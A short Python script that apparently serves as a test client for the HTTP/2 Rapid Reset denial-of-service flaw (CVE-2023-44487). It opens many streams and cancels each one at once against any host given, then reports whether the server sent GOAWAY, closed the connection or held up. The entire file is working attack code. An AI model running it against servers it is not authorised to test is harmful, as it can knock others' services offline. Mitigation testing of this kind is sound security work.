#!/usr/bin/env python3
"""HTTP/2 Rapid Reset (CVE-2023-44487) client: opens streams and resets them at once.

Usage: h2_rapid_reset.py HOST PORT N_STREAMS
Prints one line: "goaway <error-code> after <n> streams" when the server sends GOAWAY,
"closed after <n> streams" when it closes the connection without one, or
"survived <n> streams" when the server put up with all of them.
"""
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def main():
    host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/pub/hello.txt"), (":scheme", "http"), (":authority", host)]
    sent = 0
    try:
        for i in range(n):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid)
            sent += 1
            if sent % 50 == 0:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
        pass
    sock.settimeout(5)
    while True:
        try:
            data = sock.recv(65536)
        except (ConnectionResetError, socket.timeout):
            data = b""
        if not data:
            print(f"closed after {sent} streams" if sent < n else f"survived {sent} streams")
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            continue
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                print(f"goaway {int(ev.error_code)} after {sent} streams")
                return


if __name__ == "__main__":
    main()
